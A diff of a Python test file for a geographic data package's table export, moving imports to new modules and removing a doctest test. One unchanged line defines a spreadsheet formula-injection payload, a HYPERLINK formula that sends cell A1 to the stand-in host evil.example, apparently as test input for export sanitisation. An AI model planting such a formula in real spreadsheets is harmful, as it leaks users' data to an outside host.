@@ -11,10 +11,11 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
+from bhxh_geo.actuals.current import stored_actuals
 from bhxh_geo.demo import DEMO_LABEL
-from bhxh_geo.exports import stored_actuals, table_bytes, table_frame
 from bhxh_geo.paths import TARGETS_CSV
-from bhxh_geo.tabular import DATA_SHEET, SOURCES_SHEET
+from bhxh_geo.spreadsheets import DATA_SHEET, SOURCES_SHEET
+from bhxh_geo.table_export import table_bytes, table_frame
 from bhxh_geo.targets import load_targets, plan_source
 
 INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Báo cáo")'
@@ -153,14 +154,3 @@ def test_no_database_means_no_actuals_and_no_file_created(tmp_path):
 def test_unknown_format_is_refused():
     with pytest.raises(ValueError, match="'ods'"):
         table_bytes("ods")
-
-
-@pytest.mark.parametrize(
-    "name", ["bhxh_geo.exports", "bhxh_geo.render.map_data", "bhxh_geo.render.briefing"]
-)
-def test_examples_run(name, boundaries):
-    import doctest
-    import importlib
-
-    result = doctest.testmod(importlib.import_module(name), optionflags=doctest.ELLIPSIS)
-    assert result.attempted > 0 and result.failed == 0
